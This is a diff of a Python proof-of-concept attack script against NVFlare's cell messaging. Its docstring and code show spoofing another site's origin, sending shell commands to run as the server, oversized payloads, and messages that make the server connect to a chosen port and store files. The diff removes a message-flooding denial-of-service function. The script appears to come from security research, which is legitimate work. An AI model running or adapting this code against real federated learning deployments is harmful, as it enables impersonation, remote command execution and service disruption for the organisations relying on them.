@@ -4,7 +4,6 @@
 connects as a part of its own site and sends the job cell ``TARGET`` a call as if
 ``ORIGIN`` had: the bytes in the file ``WHAT``; or so many MB as an answer to nothing;
 or the shell command ``WHAT``, as the server could;
-or so many messages of 1 MB, with a plus before the number;
 or, for a number with a colon before it, messages that make NVFlare connect to that
 port, store a file, leave the server, and wait for their rest.
 NVFlare's own classes do all the rest.
@@ -81,21 +80,6 @@ def abuse(cell, site, target, port):
     say("sent")
 
 
-def flood(cell, target, count):
-    """Send messages as fast as they leave, for some seconds at most."""
-    manager, end, sent = cell.core_cell.communicator.conn_manager, time.time() + 15, 0
-    (connection,) = [one.conn for one in manager.sfm_conns.values()]
-    while sent < count and time.time() < end:
-        if connection.oq.q.qsize() > 8:
-            time.sleep(0.01)
-            continue
-        cell.core_cell.fire_and_forget(
-            "none", "none", target, Message({}, bytes(2**20))
-        )
-        sent += 1
-    say(sent)
-
-
 def main(startup, port, origin, target, what):
     flare_decomposers.register()
     fobs_initialize()
@@ -122,8 +106,6 @@ def main(startup, port, origin, target, what):
         time.sleep(0.1)
     if what.startswith(":"):
         abuse(cell, site, target, what[1:])
-    if what.startswith("+"):
-        flood(cell, target, int(what))
     if what.isdigit():
         blob = Message(payload=bytes(int(what) * 2**20))
         sent = cell.send_blob(CellChannel.RETURN_ONLY, "collab:call", target, blob)
